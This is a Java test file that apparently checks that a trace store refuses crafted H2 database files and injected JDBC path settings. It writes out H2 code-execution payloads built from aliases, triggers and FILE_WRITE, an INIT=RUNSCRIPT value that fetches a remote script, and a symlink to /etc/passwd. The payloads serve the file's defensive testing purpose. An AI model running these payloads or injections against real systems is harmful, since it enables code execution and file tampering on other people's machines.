package dev.forkline.reliability;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.forkline.trace.store.StoreException;
import dev.forkline.trace.store.TraceStore;
import dev.forkline.trace.store.UntrustedDatabaseException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Untrusted databases: an H2 file crafted elsewhere with code-running or reaching objects is refused before anything in
 * it runs (a sentinel file the payload would write stays absent), and database paths cannot smuggle JDBC URL settings.
 * Complements dev.forkline.trace.store.UntrustedDatabaseTest with payloads that act.
 */
class HostileDatabaseFileTest {

    @TempDir
    Path dir;

    private Path db;
    private Path sentinel;

    /** Statements that turn a genuine Forkline database into a hostile one; each would write the sentinel if run. */
    record Payload(String name, List<String> statements) {
        @Override
        public String toString() {
            return name;
        }
    }

    @BeforeEach
    void genuineDatabase() throws Exception {
        db = dir.resolve("forkline");
        sentinel = dir.resolve("pwned");
        TraceStore.open(db).close();
    }

    List<Payload> payloads() {
        String write = "java.nio.file.Files.writeString(java.nio.file.Path.of(\"" + sentinel + "\"), \"ran\");";
        String alias = "CREATE ALIAS PWN AS $$ String pwn() throws Exception { " + write + " return \"x\"; } $$";
        String writeFile = "FILE_WRITE(STRINGTOUTF8('ran'), '" + sentinel + "')";
        return List.of(
                new Payload("trigger whose source writes a file",
                        List.of("CREATE FORCE TRIGGER PWN_T BEFORE SELECT ON TRACES AS $$org.h2.api.Trigger create() { " + write
                                + " return null; }$$")),
                new Payload("java alias called by a view", List.of(alias, "CREATE FORCE VIEW PWN_V AS SELECT PWN() AS X")),
                new Payload("java alias called by a column default", List.of(alias, "ALTER TABLE TRACES ALTER COLUMN TITLE SET DEFAULT PWN()")),
                new Payload("view calling FILE_WRITE", List.of("CREATE FORCE VIEW PWN_W AS SELECT " + writeFile + " AS X")),
                new Payload("check constraint calling FILE_WRITE",
                        List.of("ALTER TABLE BLOB_PACKS ADD CONSTRAINT PWN_C CHECK (" + writeFile + " > 0) NOCHECK")),
                new Payload("linked table to another database", List.of(
                        "CREATE FORCE LINKED TABLE PWN_L('org.h2.Driver', 'jdbc:h2:file:" + dir.resolve("other") + "', 'sa', '', 'T')")),
                new Payload("aggregate by class name", List.of("CREATE FORCE AGGREGATE PWN_A FOR 'org.example.Pwn'")),
                new Payload("domain with a check calling FILE_WRITE", List.of("CREATE DOMAIN PWN_D AS VARCHAR CHECK (" + writeFile + " > 0)")),
                new Payload("trigger in another schema", List.of("CREATE SCHEMA S2", "CREATE TABLE S2.T(X INT)",
                        "CREATE FORCE TRIGGER S2.PWN_T2 AFTER INSERT ON S2.T FOR EACH ROW CALL 'org.example.Pwn'")),
                new Payload("generated column calling the alias", List.of(alias,
                        "ALTER TABLE RUNS ADD COLUMN PWN_G VARCHAR(10) GENERATED ALWAYS AS (PWN())")));
    }


    @Test
    void everyHostileDatabaseIsRefusedAndNoPayloadRuns() throws Exception {
        for (Payload payload : payloads()) {
            Path file = dir.resolve(payload.name().replaceAll("[^a-z]+", "-"));
            Path base = file.resolve("forkline");
            TraceStore.open(base).close();
            try (Connection connection = DriverManager.getConnection("jdbc:h2:file:" + base, "forkline", "");
                 Statement statement = connection.createStatement()) {
                for (String sql : payload.statements()) {
                    statement.execute(sql);
                }
            }
            Files.deleteIfExists(sentinel);

            assertThatThrownBy(() -> TraceStore.open(base)).as(payload.name())
                    .isInstanceOf(UntrustedDatabaseException.class)
                    .hasMessageContaining(base + ".mv.db");
            assertThat(sentinel).as("payload of '%s' ran", payload.name()).doesNotExist();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "forkline;INIT=RUNSCRIPT FROM 'http://203.0.113.1/x.sql'",
            "forkline;TRACE_LEVEL_SYSTEM_OUT=3",
            "forkline;AUTO_SERVER=TRUE",
            "a=b/forkline",
            "~/forkline",
            "forkline\nINIT=x",
            "forkline'",
            "forkline\\;INIT=x",
            "../escape/forkline",
            "./forkline"})
    void aPathThatCouldCarryJdbcSettingsIsRefusedAndCreatesNothing(String name) throws Exception {
        Path base = Path.of(dir + "/sub/" + name);

        assertThatThrownBy(() -> TraceStore.open(base)).isInstanceOf(StoreException.class)
                .hasMessageContaining("unusable database path");
        try (Stream<Path> files = Files.walk(dir)) {
            assertThat(files.filter(Files::isRegularFile).filter(p -> !p.startsWith(dir.resolve("forkline.mv.db")))
                    .filter(p -> !p.getFileName().toString().startsWith("forkline.")).toList()).isEmpty();
        }
    }

    @Test
    void aRelativePathIsRefused() {
        assertThatThrownBy(() -> TraceStore.open(Path.of("relative", "forkline"))).isInstanceOf(StoreException.class)
                .hasMessageContaining("absolute");
    }

    @Test
    void urlLookalikesThatAreOrdinaryFileNamesOpenExactlyThatFile() throws Exception {
        for (String name : List.of("jdbc:h2:tcp:203.0.113.1", "x%3BINIT%3Dy", "file:forkline", "mem:forkline")) {
            Path base = dir.resolve("lookalikes").resolve(name);
            try (TraceStore store = TraceStore.open(base)) {
                assertThat(store.location()).isEqualTo(base.resolveSibling(name + ".mv.db"));
                assertThat(store.location()).exists();
                assertThat(store.integrityCheck().ok()).isTrue();
            }
        }
    }

    @Test
    void aDatabaseMadeWithOtherCredentialsOrNotADatabaseIsRefusedWithAStoreException() throws Exception {
        Path other = dir.resolve("other").resolve("forkline");
        Files.createDirectories(other.getParent());
        try (Connection connection = DriverManager.getConnection("jdbc:h2:file:" + other, "sa", "secret")) {
            connection.createStatement().execute("CREATE TABLE traces(x INT)");
        }
        assertThatThrownBy(() -> TraceStore.open(other)).isInstanceOf(StoreException.class)
                .hasMessageContaining(other.toString());

        Path link = dir.resolve("link").resolve("forkline");
        Files.createDirectories(link.getParent());
        Files.createSymbolicLink(link.resolveSibling("forkline.mv.db"), Path.of("/etc/passwd"));
        assertThatThrownBy(() -> TraceStore.open(link)).isInstanceOf(StoreException.class);
        assertThat(Files.readString(Path.of("/etc/passwd"))).isNotEmpty();
    }

}
